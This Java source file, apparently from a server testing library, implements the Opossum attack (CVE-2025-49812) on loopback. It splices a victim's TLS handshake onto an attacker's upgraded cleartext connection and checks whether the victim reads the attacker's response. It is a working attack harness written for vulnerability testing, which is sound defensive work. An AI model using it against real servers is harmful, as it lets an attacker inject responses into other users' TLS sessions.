package dev.switchboard.testing.tls;

import java.io.IOException;
import java.net.URI;

import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

import dev.switchboard.testing.RawConnection;
import dev.switchboard.testing.ResponseHead;

/**
 * The Opossum attack (CVE-2025-49812) on loopback, as a man in the middle runs it against a
 * server that answers RFC 2817's optional form, a real request carrying
 * {@code Upgrade: TLS/1.x}:
 * <ol>
 *   <li>the attacker sends a request of its choosing with {@code Upgrade: TLS/1.2} to the
 *       cleartext port, and reads the 101;</li>
 *   <li>it then relays, onto that very connection, the TLS connection of a victim who meant
 *       to reach the server's https port: here the JDK's own TLS client, offering ALPN as a
 *       browser does, and verifying the certificate against the name as it would for the
 *       https port;</li>
 *   <li>if the handshake completes, the victim sends its request and reads the first
 *       response inside its TLS session, which the server wrote for the attacker's
 *       request.</li>
 * </ol>
 * Nothing here was written for the server under test: the attacker is a socket, the victim
 * is the JDK's TLS.
 */
public final class OpossumAttack {

    /** How far the attack got. */
    public enum Outcome {
        /** The attacker's request got no 101: there is nothing to splice a victim into. */
        NO_SWITCH,
        /** The server refused the victim's handshake: the victim reads nothing. */
        HANDSHAKE_REFUSED,
        /** The victim read a response that was not the attacker's. */
        VICTIM_READ_OTHER_RESPONSE,
        /** The victim read the response to the attacker's request inside its own TLS session. */
        VICTIM_READ_ATTACKERS_RESPONSE
    }

    /**
     * @param outcome how far it got
     * @param detail the status line the attacker got, the handshake's failure, or the
     *     response the victim read
     */
    public record Result(Outcome outcome, String detail) {
    }

    private final URI base;
    private final SSLContext victimTrust;
    private final String[] victimAlpn;

    /**
     * @param base the server's cleartext address
     * @param victimTrust what the victim trusts (the certificate of the https port)
     * @param victimAlpn the application protocols the victim offers, such as {@code h2, http/1.1}
     */
    public OpossumAttack(URI base, SSLContext victimTrust, String... victimAlpn) {
        this.base = base;
        this.victimTrust = victimTrust;
        this.victimAlpn = victimAlpn.clone();
    }

    /**
     * Runs the attack once.
     *
     * @param attackerRequest the attacker's cleartext request, with {@code Upgrade: TLS/1.2}
     * @param victimRequest the request the victim sends once its handshake is done
     * @param attackerMarker text that only the response to the attacker's request holds
     */
    public Result run(String attackerRequest, String victimRequest, String attackerMarker) throws IOException {
        try (RawConnection attacker = RawConnection.open(base)) {
            attacker.send(attackerRequest);
            ResponseHead head = attacker.readHead();
            if (head.status() != 101) {
                return new Result(Outcome.NO_SWITCH, head.statusLine());
            }
            SSLSocket victim = (SSLSocket) victimTrust.getSocketFactory().createSocket(attacker.socket(),
                    base.getHost(), base.getPort(), true);
            SSLParameters params = victim.getSSLParameters();
            params.setEndpointIdentificationAlgorithm("HTTPS");
            params.setApplicationProtocols(victimAlpn);
            victim.setSSLParameters(params);
            victim.setSoTimeout((int) RawConnection.DEFAULT_TIMEOUT.toMillis());
            try {
                victim.startHandshake();
            } catch (SSLException e) {
                return new Result(Outcome.HANDSHAKE_REFUSED, e.toString());
            }
            RawConnection over = RawConnection.over(victim);
            over.send(victimRequest);
            RawConnection.Response r;
            try {
                r = over.readResponse();
            } catch (IOException e) {
                return new Result(Outcome.HANDSHAKE_REFUSED, "the connection ended: " + e);
            }
            String read = r.head().raw() + r.bodyText();
            return new Result(read.contains(attackerMarker) ? Outcome.VICTIM_READ_ATTACKERS_RESPONSE
                    : Outcome.VICTIM_READ_OTHER_RESPONSE, read);
        }
    }
}
